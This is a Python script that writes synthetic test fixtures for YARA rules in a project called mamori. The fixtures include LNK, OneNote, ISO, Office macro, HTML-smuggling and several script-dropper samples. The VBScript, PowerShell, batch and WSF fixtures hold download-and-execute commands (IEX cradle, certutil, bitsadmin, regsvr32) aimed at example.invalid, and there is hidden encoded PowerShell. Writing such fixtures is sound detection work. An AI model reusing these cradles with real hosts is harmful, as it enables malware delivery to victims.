#!/usr/bin/env python3
"""make_fixtures.py - write the synthetic fixtures of tests/unit/data/yara/.

Run once by hand (python3 tests/yara/make_fixtures.py); the outputs are
committed.  The files copied from ../shared/testdata are listed in
tests/unit/data/yara/PROVENANCE.md, not made here.  Every synthetic
fixture is written for mamori; none is real malware and none works: the
URLs are example.invalid, the base64 payloads decode to harmless text.
"""
import base64
import os
import struct
import sys

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "unit", "data", "yara")


def put(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def lnk(relpath, args):
    """A minimal MS-SHLLINK: header, RELATIVE_PATH and COMMAND_LINE_ARGUMENTS (Unicode)."""
    flags = 0x08 | 0x20 | 0x80  # HasRelativePath | HasArguments | IsUnicode
    hdr = struct.pack("<I16sIIQQQIIIHHII", 0x4C,
                      bytes.fromhex("0114020000000000c000000000000046"),
                      flags, 0x20, 0, 0, 0, 0, 0, 7, 0, 0, 0, 0)
    assert len(hdr) == 0x4C, len(hdr)

    def sd(s):
        return struct.pack("<H", len(s)) + s.encode("utf-16le")
    return hdr + sd(relpath) + sd(args) + b"\0\0\0\0"


def main():
    os.makedirs(OUT, exist_ok=True)
    payload = base64.b64encode("Write-Output 'mamori test'".encode("utf-16le")).decode()
    args = " " * 600 + "-nop -w hidden -enc " + payload + " " * 400
    put("lnk_dropper.lnk", lnk(r"..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", args))

    # OLE2-like byte pattern: the header magic, the _VBA_PROJECT directory
    # name and an identifier table as the p-code keeps it.  Not a valid
    # compound file: enough for byte rules.
    ole = bytearray(4096)
    ole[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    ole[0x400:0x400 + 26] = "_VBA_PROJECT".encode("utf-16le") + b"\0\0"
    ident = b"".join(struct.pack("<BB", len(n), 0) + n for n in
                     [b"AutoOpen", b"URLDownloadToFileA", b"urlmon", b"Shell", b"Environ"])
    ole[0x800:0x800 + len(ident)] = ident
    put("vba_pcode_dropper.bin", bytes(ole))

    # OneNote: header GUID, one FileDataStoreObject holding an HTA, lure text
    one = bytearray(bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3"))
    one += bytes(0x400 - len(one))
    hta = (b'<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize">'
           b'<script language="VBScript">Set s = CreateObject("WScript.Shell")\r\n'
           b's.Run "cmd /c echo mamori test", 0</script></head></html>')
    one += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QI8s", len(hta), 0, bytes(8)) + hta
    link = lnk(r"..\..\Windows\System32\mshta.exe", "http://example.invalid/a.hta")
    one += bytes(8) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QI8s", len(link), 0, bytes(8)) + link
    one += bytes(8) + "Double click to view the document".encode("utf-16le") + bytes(64)
    put("onenote_hta.one", bytes(one))

    # ISO 9660-like image: volume descriptor at 0x8000 and a PE stub
    iso = bytearray(0x8800)
    iso[0x8000:0x8006] = b"\x01CD001"
    iso[0x8400:0x8402] = b"MZ"
    iso[0x8440:0x8440 + 39] = b"This program cannot be run in DOS mode."
    put("iso_with_pe.iso", bytes(iso))
    iso = bytearray(0x8800)
    iso[0x8000:0x8006] = b"\x01CD001"
    link = lnk(r"..\..\Windows\System32\cmd.exe", "/c echo mamori")
    iso[0x8400:0x8400 + len(link)] = link
    put("iso_with_lnk.iso", bytes(iso))

    xlm = bytearray(4096)
    xlm[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    xlm[0x600:0x608] = bytes.fromhex("0908100000064000")
    xlm[0x700:0x700 + 32] = b"\x06\x00urlmon\x12\x00URLDownloadToFileA"
    put("xlm_dropper.xls", bytes(xlm))

    zipb64 = base64.b64encode(b"PK\x03\x04\x14\x00" + b"\0" * 24 + b"mamori.txt").decode()
    put("html_smuggling_blob.html", f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Invoice</title></head>
<body><p>Your document is downloading...</p>
<script>
var d = "{zipb64}";
var b = atob(d);
var a = new Uint8Array(b.length);
for (var i = 0; i < b.length; i++) a[i] = b.charCodeAt(i);
var blob = new Blob([a], {{type: "application/octet-stream"}});
if (window.navigator.msSaveOrOpenBlob) {{
  window.navigator.msSaveOrOpenBlob(blob, "invoice.zip");
}} else {{
  var l = document.createElement("a");
  l.href = window.URL.createObjectURL(blob);
  l.download = "invoice.zip";
  document.body.appendChild(l);
  l.click();
}}
</script></body></html>
""")
    put("html_smuggling_datauri.html", f"""<html><body>
<p>Please open the attached statement.</p>
<a href="data:application/zip;base64,{zipb64}" download="statement.zip">statement.zip</a>
</body></html>
""")

    put("dropper.vbs", """' mamori test fixture: a VBScript downloader (example.invalid)
Dim x, s, sh
Set x = CreateObject("MSXML2.XMLHTTP")
x.Open "GET", "http://example.invalid/a.bin", False
x.Send
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.responseBody
s.SaveToFile "C:\\Users\\Public\\a.exe", 2
Set sh = CreateObject("WScript.Shell")
sh.Run "cmd /c C:\\Users\\Public\\a.exe", 0
""")
    put("dropper.ps1", """# mamori test fixture: a PowerShell download cradle (example.invalid)
$u = 'http://example.invalid/stage2.ps1'
IEX (New-Object Net.WebClient).DownloadString($u)
""")
    put("dropper.bat", """@echo off
rem mamori test fixture: living-off-the-land download (example.invalid)
certutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\\a.txt
bitsadmin /transfer job /download /priority high http://example.invalid/b.txt %TEMP%\\b.txt
start /min powershell -nop -w hidden -enc """ + payload + "\r\n")
    put("dropper.hta", """<html><head><title>Update</title>
<HTA:APPLICATION ID="upd" APPLICATIONNAME="upd" WINDOWSTATE="minimize">
<script language="JScript">
var sh = new ActiveXObject("WScript.Shell");
sh.Run("powershell -nop -w hidden -c \\"echo mamori\\"", 0);
window.close();
</script></head><body></body></html>
""")
    put("dropper.wsf", """<job id="a">
<script language="VBScript">
Set sh = CreateObject("WScript.Shell")
sh.Run "regsvr32 /s /n /u /i:http://example.invalid/a.sct scrobj.dll", 0
</script>
</job>
""")
    pieces = "+".join('"%s"' % c for c in "WScript.Shell.Run.powershell-mamori-test-fixture")
    put("obfuscated.js", "// mamori test fixture: concatenation obfuscation\nvar s = " + pieces +
        ";\nvar o = new ActiveXObject(\"Scripting.FileSystemObject\");\n")
    put("remote_template.xml.rels", """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/template.dotm" TargetMode="External"/></Relationships>
""")
    put("macrosheet_exec.xml", """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c echo mamori")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>
""")

    # negatives: ordinary mail bodies
    put("clean_mail.html", """<!DOCTYPE html>
<html><head><meta charset="utf-8"><style>p { font-family: sans-serif; }</style></head>
<body><p>Hello team,</p>
<p>Please find the minutes of Tuesday's meeting below. The download link for the
slides is <a href="https://example.com/slides.pdf">on the intranet</a>.</p>
<p>Run the report again on Friday; the shell script in the repo does it.</p>
<script type="text/javascript">document.getElementById("x");</script>
<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==">
<p>Best regards,<br>Alice</p></body></html>
""")
    put("clean_newsletter.html", """<html><body><table width="600"><tr><td>
<h1>Monthly newsletter</h1><p>Double click the calendar entry to view the details.
Download our new app from the store. PowerShell tips: use Get-Help to learn a cmdlet.</p>
<a href="https://example.com/unsubscribe">Unsubscribe</a></td></tr></table></body></html>
""")
    put("clean_ja.txt", """田中様

いつもお世話になっております。
先日の打ち合わせの議事録をお送りします。ご確認のほどよろしくお願いいたします。
添付ファイルのパスワードは別途お送りします。
資料はダブルクリックで開けます。

山田
""")


if __name__ == "__main__":
    sys.exit(main())
